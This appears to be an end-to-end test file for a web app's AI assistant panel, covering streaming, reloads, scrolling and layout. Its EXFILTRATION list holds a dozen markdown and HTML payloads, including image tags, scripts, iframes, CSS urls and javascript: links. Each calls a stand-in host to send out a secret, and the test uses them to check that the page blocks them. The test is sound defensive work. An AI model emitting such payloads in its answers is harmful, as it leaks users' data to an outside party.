import { afterAll, beforeAll, expect, test } from 'vitest';
import { type OpenAiServer, says, startOpenAiServer } from '../../api/test/assistant/openai-server.ts';
import type { Person } from '../../api/test/world.ts';
import { ask, lastAnswer, openPanel, panel, requestsElsewhere } from './assistant-page.ts';
import { createStage, expectSound, NARROW, picture, type Stage, WIDE } from './stage.ts';

/** Each sends the reader's data elsewhere, wherever a page follows it by itself. */
const ELSEWHERE = 'http://192.0.2.1/steal?secret=hunter2';
const EXFILTRATION = [
  `![x](${ELSEWHERE})`,
  `![x][1]\n\n[1]: ${ELSEWHERE}`,
  `<img src="${ELSEWHERE}">`,
  `<script>fetch('${ELSEWHERE}')</script>`,
  `<iframe src="${ELSEWHERE}"></iframe>`,
  `<link rel="stylesheet" href="${ELSEWHERE}"><link rel="prefetch" href="${ELSEWHERE}">`,
  `<style>body { background: url(${ELSEWHERE}) }</style>`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `[here](${ELSEWHERE}) ${ELSEWHERE} <${ELSEWHERE}> [x](//192.0.2.1/steal) [x](javascript:fetch('${ELSEWHERE}'))`,
  `\`\`\`html\n<img src="${ELSEWHERE}">\n\`\`\``,
  `| a |\n| - |\n| ![x](${ELSEWHERE}) |`,
  `<svg><image href="${ELSEWHERE}"/></svg><video poster="${ELSEWHERE}"></video>`,
];

let stage: Stage;
let model: OpenAiServer;
let grace: Person;

beforeAll(async () => {
  model = await startOpenAiServer();
  const openai = { apiKey: 'sk-test', baseUrl: model.url, model: 'test-model' };
  stage = await createStage({ settings: { openai } });
  grace = await stage.world.as('Grace');
});

afterAll(async () => {
  await stage.close();
  await model.close();
});

test('an answer of a model is streamed, survives a reload in its middle, and is kept', async () => {
  const goOn = Promise.withResolvers<void>();
  model.follow(async (completion) => {
    if (completion.round === 0) {
      await completion.toolCalls({ name: 'projects_list', args: {} });
      return completion.finish();
    }
    await completion.text('## You have\n\nno projects ');
    await goOn.promise;
    await completion.text('**at all**.');
    await completion.finish({ promptTokens: 10, completionTokens: 5 });
  });
  const page = await stage.open('/dns', { as: grace });
  await openPanel(page);
  await panel(page).getByText('test-model').waitFor();
  await ask(page, 'What do I have?');
  await panel(page).getByText('no projects').waitFor();
  expect(await page.getByRole('button', { name: 'Send' }).count()).toBe(0);
  await picture(page, 'assistant-streaming');
  await page.reload();
  await panel(page).getByText('no projects').waitFor();
  await panel(page).getByText('What do I have?').waitFor();
  goOn.resolve();
  await expect.poll(() => lastAnswer(page).textContent()).toContain('no projects at all.');
  await page.getByRole('log').getByText('projects_list').click();
  await picture(page, 'assistant-answer');
  await expectSound(page);

  await panel(page).getByRole('button', { name: 'New chat' }).click();
  await page.getByRole('list', { name: 'Suggested questions' }).waitFor();
  await panel(page).getByRole('button', { name: 'Past conversations' }).click();
  await picture(page, 'assistant-past');
  await expectSound(page);
  await panel(page)
    .getByRole('button', { name: /^What do I have\? General/ })
    .click();
  await lastAnswer(page).getByText('at all').waitFor();
});

test('a hostile model makes the page ask nobody else for anything', async () => {
  const page = await stage.open('/dns', { as: grace });
  const elsewhere = requestsElsewhere(page, stage);
  await openPanel(page);
  for (const [index, markdown] of EXFILTRATION.entries()) {
    model.follow(says(...(markdown.match(/[\s\S]{1,9}/g) ?? []), `\n\nend **${index}**`));
    await ask(page, `Variant ${index}`);
    await expect.poll(() => lastAnswer(page).textContent()).toContain(`end ${index}`);
    await page.getByRole('button', { name: 'Send' }).waitFor();
  }
  await page.reload();
  await expect.poll(() => lastAnswer(page).textContent()).toContain(`end ${EXFILTRATION.length - 1}`);
  expect(elsewhere).toEqual([]);
  expect(await panel(page).locator('img, iframe, script, link, style, a').count()).toBe(0);
  expect(new URL(page.url()).pathname).toBe('/dns');
  await picture(page, 'assistant-hostile');
});

test('a long answer comes smoothly, its end in sight until one scrolls away', async () => {
  const paragraph = 'It runs, and **keeps** running: `ok`, as [the log](/dns) says, word by word. ';
  const section = `${paragraph.repeat(4)}\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n\`\`\`yaml\n${'key: value\n'.repeat(40)}\`\`\`\n\n`;
  const text = section.repeat(Math.ceil(65_000 / section.length)).slice(0, 65_000);
  const scrolled = Promise.withResolvers<void>();
  model.follow(async (completion) => {
    const pieces = text.match(/[\s\S]{1,40}/g) ?? [];
    for (const [index, piece] of pieces.entries()) {
      if (index === Math.floor(pieces.length / 2)) await scrolled.promise;
      await completion.text(piece);
      if (index % 20 === 0) await completion.wait(5);
    }
    await completion.finish();
  });
  const page = await stage.open('/dns', { as: grace });
  await page.evaluate(() => {
    const lasted: number[] = [];
    Object.assign(window, { lasted });
    new PerformanceObserver((list) =>
      lasted.push(...list.getEntries().map(({ duration }) => duration)),
    ).observe({
      type: 'longtask',
    });
  });
  await openPanel(page);
  await ask(page, 'Tell me everything');
  const frame = page.getByRole('region', { name: 'Conversation' });
  const fromEnd = () => frame.evaluate((box) => box.scrollHeight - box.scrollTop - box.clientHeight);
  await expect.poll(() => frame.evaluate((box) => box.scrollHeight)).toBeGreaterThan(8000);
  await expect.poll(fromEnd).toBeLessThan(40);
  await frame.evaluate((box) => box.scrollTo(0, 100));
  const latest = page.getByRole('button', { name: 'Jump to latest' });
  await latest.waitFor();
  await picture(page, 'assistant-scrolled');
  scrolled.resolve();
  await page.getByRole('button', { name: 'Send' }).waitFor();
  expect(await frame.evaluate((box) => box.scrollTop)).toBe(100);
  await latest.click();
  await expect.poll(fromEnd).toBeLessThan(40);
  const longest = await page.evaluate(() =>
    Math.max(0, ...(window as unknown as { lasted: number[] }).lasted),
  );
  // Laid out anew with each of its pieces, it would take as long as hundreds of layouts of the whole.
  const layout = await frame.evaluate((box) => {
    const start = performance.now();
    for (const display of ['none', '', 'none', '', 'none', '']) {
      box.style.display = display;
      box.getBoundingClientRect();
    }
    return (performance.now() - start) / 3;
  });
  expect(longest).toBeLessThan(40 * layout);
});

test('on a phone, in the light, and at 200 % it covers the page and works', async () => {
  model.follow(
    says(
      '| a wide | table of | many long | columns |\n| - | - | - | - |\n| 1 | 2 | 3 | 4 |\n\n',
      `${'long'.repeat(60)}`,
    ),
  );
  for (const visit of [
    { name: 'assistant-narrow-light', viewport: NARROW, theme: 'light' as const },
    { name: 'assistant-zoomed', viewport: { width: WIDE.width / 2, height: WIDE.height / 2 } },
  ]) {
    const page = await stage.open('/dns', { as: grace, ...visit });
    await openPanel(page);
    const dialog = page.getByRole('dialog', { name: 'AI Assistant' });
    expect(await dialog.evaluate((box) => box.getBoundingClientRect().width)).toBe(visit.viewport.width);
    await ask(page, 'Show me');
    await lastAnswer(page).getByRole('table').waitFor();
    await picture(page, visit.name);
    await expectSound(page);
    await page.keyboard.press('Escape');
    await expect.poll(() => dialog.count()).toBe(0);
  }
  const light = await stage.open('/dns', {
    as: grace,
    theme: 'light',
    viewport: { width: 1600, height: 900 },
  });
  await openPanel(light);
  expect(await panel(light).evaluate((box) => box.getBoundingClientRect().width)).toBe(500);
  await ask(light, 'Show me');
  await lastAnswer(light).getByRole('table').waitFor();
  await picture(light, 'assistant-light');
  await expectSound(light);
});
